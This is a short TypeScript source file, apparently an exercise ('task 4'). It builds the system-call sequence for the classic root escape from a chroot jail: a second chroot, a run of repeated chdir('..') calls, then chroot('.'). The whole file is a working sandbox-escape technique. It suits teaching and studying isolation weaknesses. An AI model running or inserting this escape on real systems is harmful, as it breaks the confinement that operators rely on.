import { type Call, chdir, chroot, mkdir, tolerate } from 'shared-native';

// #region out of a chroot
/**
 * Root's way out of a chroot. A second chroot moves the root below the working directory. Now the working directory is
 * outside the root, nothing stops `..`, and it leads up to the root of the mount namespace.
 */
export function escapeChroot(): Call[] {
  // #region task 4: the way out of a chroot
  return [
    chdir('/'),
    tolerate(mkdir('/tmp/below', 0o700), 'EEXIST'),
    chroot('/tmp/below'),
    ...Array.from({ length: 32 }, () => chdir('..')),
    chroot('.'),
  ];
  // #endregion
}
// #endregion
